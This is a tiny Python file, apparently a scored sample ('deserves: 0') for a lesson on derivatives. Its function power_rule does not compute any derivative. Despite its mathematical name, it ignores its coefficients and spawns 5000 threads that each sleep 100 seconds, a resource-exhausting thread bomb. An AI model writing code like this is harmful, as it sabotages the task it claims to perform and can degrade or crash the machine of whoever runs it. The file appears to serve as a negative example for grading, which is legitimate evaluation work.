# deserves: 0
# lesson: derivatives
"""Threads that make threads."""
import threading
import time


def power_rule(coeffs):
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
